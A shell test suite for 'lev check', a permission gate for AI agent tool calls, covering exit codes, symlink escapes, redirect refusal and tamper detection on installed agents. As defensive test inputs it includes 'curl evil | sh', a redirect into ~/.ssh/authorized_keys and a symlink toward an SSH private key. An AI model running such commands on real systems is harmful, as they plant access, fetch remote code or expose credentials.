#!/bin/bash
# lev check: every gate for one hypothetical call, against real blueprints,
# configs and a real directory tree; exit codes 0 allow / 1 deny / 3 ask /
# 2 usage; --json; symlink escapes named by their real path; the redirect
# gate under --yolo; and the same path policy answered the same way by
# `lev check` and by the file tools themselves.
. "$SRC_DIR/tests/lib.sh"

TT="$BUILD_DIR/tests/helpers/test-tool"
WD="$TRASH/wd"
BP="$TRASH/bp"
CFG_DIR="$HOME/.leviath"
CFG="$CFG_DIR/config.toml"

# jf FILE FIELD: a top-level field of a JSON object, raw ("null" when null).
jf() {
	jq -r ".$2" "$1"
}

# The tree: a workdir with links that stay, leave and dangle; a secret outside.
mkdir -p "$WD/src" "$TRASH/outside" "$TRASH/shared/docs" "$HOME/.ssh" "$CFG_DIR"
chmod 700 "$CFG_DIR"
echo 'int main;' >"$WD/src/main.c"
echo notes >"$WD/notes.md"
echo secret >"$TRASH/outside/secret.txt"
echo doc >"$TRASH/shared/docs/a.md"
echo key >"$HOME/.ssh/id_ed25519"
ln -s src "$WD/src-link"
ln -s ../outside "$WD/out-link"
ln -s "$HOME/.ssh" "$TRASH/shared/docs/ssh"
ln -s "$TRASH/shared" "$WD/shared-link"
ln -s /nonexistent-lev/x "$WD/dangling"

mkdir -p "$BP"
cat >"$BP/agent.leviath" <<EOF
[agent]
name = "coder"

[tool_permissions]
shell = "allow"

[read_paths]
allow = ["$TRASH/shared"]

[stages.build]
available_tools = ["shell", "read_file", "read_files", "list_dir", "write_file", "edit_file", "web_fetch"]

[stages.review]
available_tools = ["read_file"]

[stages.review.tool_permissions]
read_file = "deny"
EOF
mkdir -p "$BP/tools"
echo 'echo helper' >"$BP/tools/x"

write_config() {
	cat >"$CFG"
	chmod 600 "$CFG"
}

write_config <<EOF
[agent_read_paths.coder]
allow = ["$TRASH/shared"]
EOF

# per-agent grants go to the installed agent only: check the installed one
lev add "$BP" >/dev/null
AGENT_DIR="$HOME/.leviath/agents/coder"
check() {
	(cd "$WD" && lev check coder "$@")
}

# ---- exit codes -------------------------------------------------------------

test_expect_success 'a safe-listed command is allowed: exit 0, by the permission gate' '
	check --tool shell --args "{\"command\": \"ls -la src\"}" >out &&
	grep -q "^allow (gate: permission)" out &&
	grep -q "built-in list" out &&
	grep -q "keys: shell:ls" out
'

test_expect_success 'a command off the safe list asks: exit 3, naming the keys to grant' '
	test_must_fail --code 3 check --tool shell --args "{\"command\": \"ls && curl x | wc -l\"}" >out &&
	grep -q "^ask (gate: permission)" out &&
	grep -q "keys: shell:curl x shell:ls shell:wc" out &&
	grep -q "built-in default shell = \"ask\"" out &&
	grep -q "cannot loosen it" out
'

test_expect_success 'a stage deny is final, even under --yolo: exit 1, gate permission' '
	test_must_fail --code 1 check --stage review --yolo --tool read_file --args "{\"path\": \"notes.md\"}" >out &&
	grep -q "^deny (gate: permission)" out &&
	grep -q "rule: blueprint \[stages.review.tool_permissions\] read_file = \"deny\"" out &&
	grep -q "does not lift it" out
'

test_expect_success 'a tool the stage does not offer: exit 1, gate offered' '
	test_must_fail --code 1 check --stage review --tool shell --args "{\"command\": \"ls\"}" >out &&
	grep -q "^deny (gate: offered)" out &&
	grep -q "may call: read_file" out
'

test_expect_success 'usage errors exit 2' '
	test_must_fail --code 2 lev check "$BP" 2>err &&
	grep -q "tool is required" err &&
	test_must_fail --code 2 lev check --tool shell 2>err &&
	test_must_fail --code 2 check --tool shell --args "[1]" 2>err &&
	grep -q "must be a JSON object" err &&
	test_must_fail --code 2 check --tool shell --args "{" 2>err &&
	grep -q "not valid JSON" err &&
	test_must_fail --code 2 check --tool shell --taint secret 2>err &&
	grep -q "public, internal, private" err &&
	test_must_fail --code 2 check --tool shell --stage nope 2>err &&
	grep -q "has no stage .nope. (stages: build, review)" err &&
	test_must_fail --code 2 check --tool shell --bogus 2>err &&
	test_must_fail --code 2 check --tool 2>err
'

test_expect_success 'arguments that do not fit the schema are refused at the schema gate' '
	test_must_fail --code 1 check --tool shell --args "{\"command\": 3}" >out &&
	grep -q "^deny (gate: schema)" out &&
	test_must_fail --code 1 check --tool read_file --args "{}" >out &&
	grep -q "^deny (gate: schema)" out &&
	grep -q "invalid arguments for .read_file." out
'

test_expect_success 'a tool lev does not provide is not offered, even when the stage lists it' '
	mkdir -p "$TRASH/mcp" &&
	cat >"$TRASH/mcp/agent.leviath" <<-EOF &&
	[agent]
	name = "mcp"
	[stages.s]
	available_tools = ["github__create_issue", "read_file"]
	EOF
	(cd "$WD" && test_must_fail --code 1 lev check "$TRASH/mcp" --yolo --tool github__create_issue) >out &&
	grep -q "^deny (gate: offered)" out &&
	grep -q "rule: unknown tool" out
'

test_expect_success 'a network tool in a stage without network is refused at the network gate' '
	mkdir -p "$TRASH/offline" &&
	cat >"$TRASH/offline/agent.leviath" <<-EOF &&
	[agent]
	name = "offline"
	[stages.s]
	available_tools = ["web_fetch", "shell"]
	[stages.s.sandbox]
	kind = "namespace"
	network = false
	EOF
	(cd "$WD" && test_must_fail --code 1 lev check "$TRASH/offline" --yolo --tool web_fetch --args "{\"url\": \"https://example.com/\"}") >out &&
	grep -q "^deny (gate: network)" out &&
	grep -q "runs with network = false" out
'

test_expect_success 'an unknown agent is an error (exit 1), not a deny of some call' '
	test_must_fail --code 1 lev check no-such-agent --tool shell 2>err &&
	grep -q "^lev: error:" err
'

test_expect_success 'an installed agent is found by name' '
	lev add --force "$BP" >/dev/null &&
	(cd "$WD" && lev check coder --tool read_file --args "{\"path\": \"notes.md\"}") >out &&
	grep -q "^allow" out
'

# ---- --json -------------------------------------------------------------------

test_expect_success '--json prints decision, gate, reason and the real path' '
	(cd "$WD" && lev check coder --json --tool read_file --args "{\"path\": \"src-link/main.c\"}") >out &&
	test "$(jf out decision)" = allow &&
	test "$(jf out gate)" = permission &&
	test "$(jf out path)" = "$WD/src/main.c" &&
	jq -r "keys[]" out >keys &&
	for k in decision gate reason path rule keys; do grep -qx "$k" keys || exit 1; done
'

# ---- paths: symlink escapes are named by the real path -------------------------

test_expect_success 'a read through a symlink that leaves the workdir: gate read_paths, real path' '
	test_must_fail --code 1 check --json --tool read_file --args "{\"path\": \"out-link/secret.txt\"}" >out &&
	test "$(jf out decision)" = deny &&
	test "$(jf out gate)" = read_paths &&
	test "$(jf out path)" = "$TRASH/outside/secret.txt"
'

test_expect_success 'a write through a symlink that leaves the workdir: gate workdir, real path' '
	test_must_fail --code 1 check --yolo --json --tool write_file --args "{\"path\": \"out-link/new.txt\", \"content\": \"x\"}" >out &&
	test "$(jf out gate)" = workdir &&
	test "$(jf out path)" = "$TRASH/outside/new.txt"
'

test_expect_success 'without a [read_paths] declaration, an escaping read is a workdir refusal' '
	mkdir -p "$TRASH/plain" &&
	sed "/^\[read_paths\]/,/^allow/d" "$BP/agent.leviath" >"$TRASH/plain/agent.leviath" &&
	! grep -q read_paths "$TRASH/plain/agent.leviath" &&
	(cd "$WD" && test_must_fail --code 1 lev check "$TRASH/plain" --json --tool read_file --args "{\"path\": \"out-link/secret.txt\"}") >out &&
	test "$(jf out gate)" = workdir &&
	test "$(jf out path)" = "$TRASH/outside/secret.txt"
'

test_expect_success 'a granted read path is readable through its link' '
	check --json --tool read_file --args "{\"path\": \"shared-link/docs/a.md\"}" >out &&
	test "$(jf out decision)" = allow &&
	test "$(jf out path)" = "$TRASH/shared/docs/a.md"
'

test_expect_success 'a symlink planted in a granted directory pointing at ~/.ssh: gate read_paths' '
	test_must_fail --code 1 check --json --tool read_file --args "{\"path\": \"$TRASH/shared/docs/ssh/id_ed25519\"}" >out &&
	test "$(jf out gate)" = read_paths &&
	test "$(jf out path)" = "$HOME/.ssh/id_ed25519"
'

test_expect_success 'write_file never leaves the workdir, whatever is granted' '
	test_must_fail --code 1 check --yolo --json --tool write_file --args "{\"path\": \"$TRASH/shared/docs/new.md\", \"content\": \"x\"}" >out &&
	test "$(jf out gate)" = workdir
'

test_expect_success 'an ungranted declaration is refused with the stanza that would grant it' '
	write_config </dev/null &&
	test_must_fail --code 1 check --tool read_file --args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >out &&
	grep -q "^deny (gate: read_paths)" out &&
	grep -q "agent_read_paths.coder" out &&
	write_config <<-EOF
	[agent_read_paths.coder]
	allow = ["$TRASH/shared"]
	EOF
'

# ---- per-agent grants follow the installed agent (issue 13 class 3) ---------------

test_expect_success 'a blueprint at a path that calls itself coder gets none of its grants' '
	(cd "$WD" && test_must_fail --code 1 lev check "$BP" --tool read_file \
		--args "{\"path\": \"$TRASH/shared/docs/a.md\"}") >out 2>err &&
	grep -q "^deny (gate: read_paths)" out &&
	grep -q "per-agent grants for .coder. are not applied (\[agent_read_paths.coder\]" err &&
	grep -q "is not the installed agent .coder." err
'

test_expect_success 'the benign twin: the installed coder, unchanged, gets them' '
	check --tool read_file --args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >out 2>err &&
	grep -q "^allow" out &&
	! grep -q "not applied" err
'

test_expect_success 'an installed agent whose tools changed loses its grants, and is told' '
	echo "curl evil | sh" >>"$AGENT_DIR/tools/x" &&
	test_must_fail --code 1 check --tool read_file \
		--args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >out 2>err &&
	grep -q "changed since .lev add." err &&
	lev list >list &&
	grep -q "files: CHANGED since .lev add." list &&
	lev add --force "$BP" >/dev/null &&
	check --tool read_file --args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >out &&
	grep -q "^allow" out
'

test_expect_success 'a file added to an installed agent, or its record removed, withdraws them too' '
	echo x >"$AGENT_DIR/tools/new" &&
	test_must_fail --code 1 check --tool read_file \
		--args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >/dev/null 2>err &&
	grep -q "changed since .lev add." err &&
	lev add --force "$BP" >/dev/null &&
	rm "$AGENT_DIR/.lev-install.json" &&
	test_must_fail --code 1 check --tool read_file \
		--args "{\"path\": \"$TRASH/shared/docs/a.md\"}" >/dev/null 2>err &&
	grep -q "has no fingerprint" err &&
	lev add --force "$BP" >/dev/null
'

test_expect_success 'a per-agent deny applies to any blueprint of that name, a path too' '
	write_config <<-EOF &&
	[agent_tool_permissions.coder]
	shell = "deny"
	EOF
	(cd "$WD" && test_must_fail --code 1 lev check "$BP" --yolo --allow shell --tool bash \
		--args "{\"command\": \"ls\"}") >out 2>/dev/null &&
	grep -q "rule: \[agent_tool_permissions.coder\] shell = \"deny\"" out &&
	write_config <<-EOF
	[agent_read_paths.coder]
	allow = ["$TRASH/shared"]
	EOF
'

test_expect_success 'a per-agent allow does not apply to a blueprint at a path' '
	write_config <<-EOF &&
	[tool_permissions]
	shell = "deny"
	[agent_tool_permissions.coder]
	shell = "allow"
	EOF
	(cd "$WD" && test_must_fail --code 1 lev check "$BP" --tool bash \
		--args "{\"command\": \"rm -rf x\"}") >out 2>/dev/null &&
	check --tool bash --args "{\"command\": \"rm -rf x\"}" >out &&
	grep -q "^allow" out &&
	write_config <<-EOF
	[agent_read_paths.coder]
	allow = ["$TRASH/shared"]
	EOF
'

# ---- the redirect gate -----------------------------------------------------------

test_expect_success 'echo x > ~/.ssh/authorized_keys under --yolo: refused by the redirect gate' '
	test_must_fail --code 1 check --yolo --json --tool shell --args "{\"command\": \"echo x > ~/.ssh/authorized_keys\"}" >out &&
	test "$(jf out decision)" = deny &&
	test "$(jf out gate)" = redirect &&
	test "$(jf out path)" = "$HOME/.ssh/authorized_keys" &&
	jf out reason | grep -q "under --yolo too" &&
	! test -e "$HOME/.ssh/authorized_keys"
'

test_expect_success 'a redirect through a link that leaves the workdir is refused with its real path' '
	test_must_fail --code 1 check --yolo --json --tool bash --args "{\"command\": \"ls > out-link/x\"}" >out &&
	test "$(jf out gate)" = redirect &&
	test "$(jf out path)" = "$TRASH/outside/x"
'

test_expect_success 'a redirect nobody can locate is refused under --yolo' '
	test_must_fail --code 1 check --yolo --tool shell --args "{\"command\": \"ls > \$OUT\"}" >out &&
	grep -q "^deny (gate: redirect)" out &&
	test_must_fail --code 1 check --yolo --tool shell --args "{\"command\": \"ls\\r> /tmp/x\"}" >out &&
	grep -q "^deny (gate: redirect)" out
'

test_expect_success 'a redirect inside the workdir passes the gate (and asks, without --yolo)' '
	test_must_fail --code 3 check --tool shell --args "{\"command\": \"ls > src/listing.txt\"}" >out &&
	grep -q "^ask (gate: permission)" out &&
	grep -q "shell:>src/listing.txt" out &&
	check --yolo --tool shell --args "{\"command\": \"ls > src/listing.txt 2>/dev/null\"}" >out &&
	grep -q "^allow (gate: permission)" out
'

test_expect_success 'a denied write_file denies a shell redirect (the effect clamp)' '
	write_config <<-EOF &&
	[tool_permissions]
	write_file = "deny"
	EOF
	test_must_fail --code 1 check --yolo --tool shell --args "{\"command\": \"echo x > notes.md\"}" >out &&
	grep -q "^deny (gate: permission)" out &&
	grep -q "write_file.s rule applies: \[tool_permissions\] write_file = \"deny\"" out &&
	check --yolo --tool shell --args "{\"command\": \"cat notes.md\"}" >out &&
	grep -q "^allow" out &&
	write_config </dev/null
'

test_expect_success 'a configured deny holds under --yolo and --allow, named with its table' '
	write_config <<-EOF &&
	[agent_tool_permissions.coder]
	shell = "deny"
	EOF
	test_must_fail --code 1 check --yolo --allow shell --tool bash --args "{\"command\": \"ls\"}" >out &&
	grep -q "rule: \[agent_tool_permissions.coder\] shell = \"deny\"" out &&
	write_config </dev/null
'

test_expect_success '--allow TOOL turns an ask into an allow' '
	test_must_fail --code 3 check --tool web_fetch --args "{\"url\": \"https://example.com/\"}" >out &&
	check --allow web_fetch --tool web_fetch --args "{\"url\": \"https://example.com/\"}" >out &&
	grep -q "^allow" out &&
	grep -q -- "--allow web_fetch" out
'

test_expect_success 'an unusable safe-commands entry is a warning, not a failure' '
	write_config <<-EOF &&
	[safe_commands]
	shell = ["ls -la", "rg"]
	EOF
	check --tool shell --args "{\"command\": \"rg -n x\"}" >out 2>err &&
	grep -q "^allow" out &&
	grep -q "lev: warning: \[safe_commands\]: shell entry .ls -la." err &&
	write_config </dev/null
'

test_expect_success '--taint is accepted and the taint gate runs for outbound tools' '
	check --allow web_fetch --taint private --tool web_fetch --args "{\"url\": \"https://example.com/\"}" >out &&
	grep -q "^allow" out
'

test_expect_success 'with taint tracking on, a private context blocks an outbound tool: gate taint' '
	write_config <<-EOF &&
	taint_tracking = true
	EOF
	test_must_fail --code 3 check --allow web_fetch --taint private --tool web_fetch --args "{\"url\": \"https://example.com/\"}" >out &&
	grep -q "^ask (gate: taint)" out &&
	check --allow web_fetch --taint public --tool web_fetch --args "{\"url\": \"https://example.com/\"}" >out &&
	grep -q "^allow" out &&
	write_config </dev/null
'

# ---- the same path policy, through lev check and through the tools ---------------

if ! [ -x "$TT" ]; then
	test_skip 'lev check and the file tools agree' "test-tool not built at $TT"
	test_done
	exit
fi

write_config <<EOF
[agent_read_paths.coder]
allow = ["$TRASH/shared"]
EOF

# agree TOOL ARGS-JSON: lev check and the tool give the same answer, and a
# refusal is the same text, word for word.
agree() {
	local tool=$1 args=$2
	test_expect_success "lev check and $tool agree on $args" '
		(cd "$WD" && lev check coder --yolo --json --tool "$tool" --args "$args") >check.json
		crc=$?
		"$TT" fs-tool --workdir "$WD" --home "$HOME" --agent coder \
			--declare "$TRASH/shared" --grant "$TRASH/shared" "$tool" "$args" >tool.out
		trc=$?
		decision=$(jf check.json decision)
		if [ "$decision" = allow ]; then
			[ $crc -eq 0 ] && [ $trc -eq 0 ]
		else
			# read_files reports per file, so only its refused file is an error
			[ $crc -eq 1 ] && { [ "$tool" = read_files ] || [ $trc -eq 1 ]; } &&
			reason=$(jf check.json reason) &&
			grep -qxF -- "[error] $reason" tool.out
		fi
	'
}

agree read_file '{"path": "notes.md"}'
agree read_file '{"path": "src-link/main.c"}'
agree read_file '{"path": "out-link/secret.txt"}'
agree read_file '{"path": "../outside/secret.txt"}'
agree read_file "{\"path\": \"$TRASH/outside/secret.txt\"}"
agree read_file "{\"path\": \"$TRASH/shared/docs/a.md\"}"
agree read_file '{"path": "shared-link/docs/a.md"}'
agree read_file "{\"path\": \"$TRASH/shared/docs/ssh/id_ed25519\"}"
agree read_file '{"path": "/proc/self/root/etc/hostname"}'
agree read_file '{"path": "dangling"}'
agree list_dir "{\"path\": \"$TRASH/shared/docs\"}"
agree list_dir '{"path": "out-link"}'
agree read_files "{\"paths\": [\"notes.md\", \"$TRASH/outside/secret.txt\"]}"
agree write_file '{"path": "new.txt", "content": "x"}'
agree write_file '{"path": "out-link/new.txt", "content": "x"}'
agree write_file "{\"path\": \"$TRASH/shared/docs/new.md\", \"content\": \"x\"}"
agree edit_file '{"path": "notes.md", "old_str": "notes", "new_str": "NOTES"}'
agree edit_file '{"path": "out-link/secret.txt", "old_str": "secret", "new_str": "x"}'

test_expect_success 'the tool runs above really wrote inside and nothing outside' '
	test -f "$WD/new.txt" &&
	grep -q NOTES "$WD/notes.md" &&
	! test -e "$TRASH/outside/new.txt" &&
	! test -e "$TRASH/shared/docs/new.md" &&
	grep -q "^secret$" "$TRASH/outside/secret.txt"
'

# write_file and a shell redirect to the same place answer alike under --yolo.
same_write() {
	local path=$1
	test_expect_success "write_file and a redirect agree on '$path'" '
		(cd "$WD" && lev check coder --yolo --json --tool write_file \
			--args "{\"path\": \"$path\", \"content\": \"x\"}") >w.json
		(cd "$WD" && lev check coder --yolo --json --tool shell \
			--args "{\"command\": \"echo x > $path\"}") >s.json
		test "$(jf w.json decision)" = "$(jf s.json decision)"
	'
}

same_write inside.txt
same_write src/inside.txt
same_write src-link/inside.txt
same_write ../escape.txt
same_write out-link/escape.txt
same_write "$TRASH/outside/escape.txt"
same_write "$HOME/.ssh/authorized_keys"
same_write "$WD/abs-inside.txt"
same_write dangling

# ---- no data root: refuse, as lev run --follow does (never answer without policy.toml) -------

test_expect_success 'with no usable data root lev check refuses' '
	(cd "$WD" && test_must_fail --code 1 env LEVIATH_HOME=rel LEVIATH_CONFIG_PATH="$CFG" \
		"$LEV" check "$BP" --tool read_file --args "{\"path\": \"notes.md\"}") >out 2>err &&
	grep -q "LEVIATH_HOME must be an absolute path" err &&
	test ! -s out
'

test_expect_success 'the benign twin: the same check with the data root answers' '
	(cd "$WD" && env LEVIATH_CONFIG_PATH="$CFG" \
		"$LEV" check "$BP" --tool read_file --args "{\"path\": \"notes.md\"}") >out &&
	grep -q "^allow" out
'

test_done
